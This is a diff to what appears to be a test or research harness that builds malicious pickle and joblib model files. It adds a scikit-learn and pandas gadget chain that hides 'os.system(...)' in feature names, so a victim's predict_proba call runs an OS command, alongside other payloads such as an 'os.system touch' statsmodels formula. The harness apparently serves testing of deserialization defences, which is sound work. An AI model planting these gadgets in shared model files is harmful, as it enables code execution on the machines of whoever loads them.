@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import bz2
+import copyreg
 import gzip
 import io
 import lzma
@@ -80,6 +81,33 @@ def formula(code: str) -> bytes:
     result = smf.ols("y ~ x", frame).fit()
     result.model.formula = result.model.data.formula = f"y ~ x + I({code})"
     return pickle.dumps(result)
+
+
+class AFrame:
+    """A frame whose `eval` a stacking model would call with column names as code."""
+
+    def __reduce__(self) -> Any:
+        state = pd.DataFrame({"a": [1.0]}).__getstate__()
+        state["_cmp_method"] = slice
+        return copyreg._reconstructor, (pd.DataFrame, object, None), state  # type: ignore[attr-defined]
+
+
+def stacked_frame(command: str) -> Any:
+    """Nothing but names of scikit-learn and pandas: estimators whose attributes lead their own code astray."""
+    from sklearn.ensemble import StackingClassifier
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import StandardScaler
+
+    names = np.array([f"@np.f2py.os.system({command!r})"], dtype=object)
+    first = StandardScaler()
+    first.__dict__.update(n_features_in_=1, feature_names_in_=names, mean_=np.zeros(1), scale_=np.ones(1), transform=list)
+    second = StackingClassifier(estimators=[("x", LogisticRegression())], final_estimator=LogisticRegression())
+    final = LogisticRegression().fit([[0], [1]], [0, 1])
+    second.__dict__.update(
+        estimators_=[AFrame()], stack_method_=["eval"], classes_=np.array([0, 1]), passthrough=False, final_estimator_=final
+    )
+    return Pipeline([("a", first), ("b", second)])
 
 
 def payloads(folder: Path) -> dict[str, bytes]:
@@ -165,13 +193,16 @@ MAKERS: dict[str, Callable[[str], bytes]] = {
     "xz": lambda m: lzma.compress(joblibbed(system(m))),
     "lzma": lambda m: lzma.compress(joblibbed(system(m)), format=lzma.FORMAT_ALONE),
     "statsmodels-formula": lambda m: formula(f"__import__('os').system('touch {m}') + x"),
+    "stacked-frame": lambda m: pickle.dumps(stacked_frame(touch(m))),
     "after-the-end": lambda m: pickle.dumps(estimator_with(np.ones((1, 2))))[:-1] + b"0" + pickle.dumps(system(m))[2:],
 }
 
 
-def load(data: bytes) -> Any:
-    """As a careless program would."""
-    return joblib.load(io.BytesIO(data))
+def load(data: bytes) -> None:
+    """As a careless program would: load, and ask an estimator for an answer."""
+    model = joblib.load(io.BytesIO(data))
+    if hasattr(model, "predict_proba"):
+        model.predict_proba(pd.DataFrame({name: [0.0] for name in model.feature_names_in_}))
 
 
 if __name__ == "__main__":
